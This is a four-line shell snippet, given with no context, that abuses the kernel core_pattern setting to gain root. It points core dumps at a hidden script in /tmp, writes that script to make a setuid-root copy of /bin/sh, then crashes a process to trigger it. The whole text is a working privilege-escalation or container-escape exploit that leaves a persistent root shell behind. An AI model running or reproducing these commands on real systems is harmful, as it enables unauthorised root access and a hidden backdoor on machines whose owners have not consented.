echo '|/tmp/.h %p' > /proc/sys/kernel/core_pattern
printf '#!/bin/sh\nid > /tmp/out\ncp /bin/sh /tmp/rs; chmod 4755 /tmp/rs\n' > /tmp/.h
chmod +x /tmp/.h
sleep 1 & kill -SEGV $!
